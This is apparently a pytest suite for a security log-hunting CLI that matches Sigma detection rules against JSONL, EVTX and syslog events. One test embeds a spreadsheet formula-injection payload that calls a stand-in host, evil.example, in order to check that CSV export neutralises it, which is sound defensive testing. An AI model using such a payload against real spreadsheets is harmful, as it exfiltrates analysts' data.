"""``soclite hunt`` and ``soclite rules check`` through click's runner."""

from __future__ import annotations

import gzip
import json
from pathlib import Path

import pytest
from click.testing import CliRunner

from soclite.correlator.cli import hunt, rules_group
from tests.correlator.regression import SIGMA, cases, rule_files

RULE = """
title: Whoami Execution
id: 0b7c9d3e-2222-4a4a-9b9b-000000000002
status: test
level: high
logsource:
    product: windows
    category: process_creation
detection:
    selection:
        Image|endswith: '\\whoami.exe'
    condition: selection
"""


def test_hunt_jsonl_gz_counts_malformed_lines(tmp_path: Path) -> None:
    (tmp_path / "r.yml").write_text(RULE, encoding="utf-8")
    data = tmp_path / "in" / "events.jsonl.gz"
    data.parent.mkdir()
    lines = [
        json.dumps(
            {
                "Channel": "Microsoft-Windows-Sysmon/Operational",
                "EventID": 1,
                "Hostname": "PC1",
                "Image": "C:\\Windows\\System32\\whoami.exe",
                "RecordNumber": 42,
            }
        ),
        "{not json",
        json.dumps(
            {"Channel": "Microsoft-Windows-Sysmon/Operational", "EventID": 1, "Image": "c:\\notepad.exe"}
        ),
    ]
    with gzip.open(data, "wt") as fh:
        fh.write("\n".join(lines) + "\n")
    result = CliRunner().invoke(hunt, ["--rules", str(tmp_path / "r.yml"), "--stats", str(tmp_path / "in")])
    assert result.exit_code == 0, result.output
    rows = [json.loads(line) for line in result.stdout.splitlines() if line.startswith("{")]
    assert len(rows) == 1
    row = rows[0]
    assert (row["rule_title"], row["level"], row["severity"], row["host"], row["record_id"]) == (
        "Whoami Execution",
        "high",
        "high",
        "pc1",
        42,
    )
    assert row["source"] == str(data) and row["event"]["Image"].endswith("whoami.exe")
    assert f"{data}:2" in result.stderr and "malformed JSON" in result.stderr
    assert "events read: 2, skipped: 1" in result.stderr and "detections: 1" in result.stderr


def test_hunt_evtx_csv_and_table() -> None:
    if not SIGMA.exists():
        pytest.skip("../shared/sigma not available")
    case = next(c for c in cases() if c.match_count >= 1)
    rule = rule_files()[case.rule_id]
    runner = CliRunner()
    csv_out = runner.invoke(hunt, ["--rules", str(rule), "--format", "csv", str(case.evtx)])
    assert csv_out.exit_code == 0, csv_out.output
    header, *rows = csv_out.stdout.strip().splitlines()
    assert header.startswith("rule_id,rule_title,level,severity,timestamp,host,source,record_id")
    assert len(rows) >= case.match_count and case.rule_id in rows[0]
    table = runner.invoke(hunt, ["--rules", str(rule), "--format", "table", str(case.evtx)])
    assert table.exit_code == 0 and "RULE_TITLE" in table.stdout


def test_hunt_syslog_text(tmp_path: Path) -> None:
    rule = """
title: Keyword in syslog
id: 0b7c9d3e-2222-4a4a-9b9b-00000000000a
status: test
level: low
logsource:
    product: linux
detection:
    keywords:
        - 'segfault'
    condition: keywords
"""
    (tmp_path / "r.yml").write_text(rule, encoding="utf-8")
    log = tmp_path / "messages.log"
    log.write_text(
        "<13>Nov 23 10:00:00 web01 kernel: app[123]: segfault at 0\n"
        "<13>Nov 23 10:00:01 web01 kernel: all fine\n",
        encoding="utf-8",
    )
    result = CliRunner().invoke(hunt, ["--rules", str(tmp_path / "r.yml"), str(log)])
    assert result.exit_code == 0, result.output
    assert len([line for line in result.stdout.splitlines() if line.startswith("{")]) == 1


def test_rules_check(tmp_path: Path) -> None:
    good = tmp_path / "good.yml"
    good.write_text(RULE, encoding="utf-8")
    bad = tmp_path / "bad.yml"
    bad.write_text(
        RULE.replace("condition: selection", "condition: selection and missing_sel"), encoding="utf-8"
    )
    runner = CliRunner()
    ok = runner.invoke(rules_group, ["check", str(good)])
    assert ok.exit_code == 0 and "Whoami Execution" in ok.stdout
    loose = runner.invoke(rules_group, ["check", str(tmp_path)])
    assert loose.exit_code == 0
    assert f"FAIL  {bad}:1:" in loose.stdout and "missing_sel" in loose.stdout
    strict = runner.invoke(rules_group, ["check", "--strict", str(tmp_path)])
    assert strict.exit_code == 1


def test_hunt_skips_non_utf8_syslog_lines(tmp_path: Path) -> None:
    rule = RULE.replace("product: windows\n    category: process_creation", "product: linux").replace(
        "Image|endswith: '\\whoami.exe'", "message|contains: 'whoami'"
    )
    (tmp_path / "r.yml").write_text(rule, encoding="utf-8")
    log = tmp_path / "auth.log"
    log.write_bytes(b"<13>Nov 23 10:00:00 h1 app: \xff\xfe broken\n<13>Nov 23 10:00:01 h1 app: ran whoami\n")
    result = CliRunner().invoke(hunt, ["--rules", str(tmp_path / "r.yml"), "--stats", str(log)])
    assert result.exit_code == 0, result.output
    assert f"{log}:1: not UTF-8" in result.stderr
    assert "events read: 1, skipped: 1" in result.stderr


def test_hunt_without_any_loaded_rule_exits_2(tmp_path: Path) -> None:
    """A rule folder where nothing loads must not look like a clean "0 detections" hunt."""
    (tmp_path / "broken.yml").write_text("title: x\ndetection: [not, a, map]\n", encoding="utf-8")
    (tmp_path / "ev.jsonl").write_text('{"message": "x"}\n', encoding="utf-8")
    result = CliRunner().invoke(hunt, ["--rules", str(tmp_path / "broken.yml"), str(tmp_path / "ev.jsonl")])
    assert result.exit_code == 2
    assert "no rule loaded" in result.stderr and "broken.yml" in result.stderr
    empty = tmp_path / "empty"
    empty.mkdir()
    result = CliRunner().invoke(hunt, ["--rules", str(empty), str(tmp_path / "ev.jsonl")])
    assert result.exit_code == 2 and "no rule loaded" in result.stderr


def test_hunt_csv_neutralises_formulas(tmp_path: Path) -> None:
    """A command line an attacker controls must reach the analyst's spreadsheet as text, not a formula."""
    rule = RULE.replace("Image|endswith: '\\whoami.exe'", "CommandLine|contains: 'HYPERLINK'")
    (tmp_path / "r.yml").write_text(rule, encoding="utf-8")
    payload = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
    event = {
        "Channel": "Microsoft-Windows-Sysmon/Operational",
        "EventID": 1,
        "Hostname": "@PC1",
        "CommandLine": payload,
    }
    (tmp_path / "ev.jsonl").write_text(json.dumps(event) + "\n", encoding="utf-8")
    result = CliRunner().invoke(
        hunt, ["--rules", str(tmp_path / "r.yml"), "--format", "csv", str(tmp_path / "ev.jsonl")]
    )
    assert result.exit_code == 0, result.output
    import csv
    import io

    rows = list(csv.DictReader(io.StringIO(result.stdout)))
    assert len(rows) == 1
    assert rows[0]["host"] == "'@pc1"
    assert rows[0]["rule_title"] == "Whoami Execution"
    assert rows[0]["event"].startswith("{") and payload.replace('"', '\\"') in rows[0]["event"]
    for value in rows[0].values():
        assert not value.startswith(("=", "+", "-", "@", "\t", "\r")), value


def test_hunt_reads_nxlog_event_time_in_the_given_zone(tmp_path: Path) -> None:
    (tmp_path / "r.yml").write_text(RULE, encoding="utf-8")
    event = {
        "Channel": "Microsoft-Windows-Sysmon/Operational",
        "EventID": 1,
        "Hostname": "PC1",
        "EventTime": "2026-11-23 10:00:00",
        "Image": "C:\\Windows\\System32\\whoami.exe",
    }
    (tmp_path / "ev.jsonl").write_text(json.dumps(event) + "\n", encoding="utf-8")
    args = ["--rules", str(tmp_path / "r.yml"), str(tmp_path / "ev.jsonl")]
    default = CliRunner().invoke(hunt, args)
    assert default.exit_code == 0, default.output
    assert json.loads(default.stdout)["timestamp"] == "2026-11-23T03:00:00.000Z"  # Asia/Ho_Chi_Minh
    utc = CliRunner().invoke(hunt, ["--timezone", "UTC", *args])
    assert json.loads(utc.stdout)["timestamp"] == "2026-11-23T10:00:00.000Z"
    bad = CliRunner().invoke(hunt, ["--timezone", "Mars/Olympus", *args])
    assert bad.exit_code == 2 and "unknown time zone" in bad.output
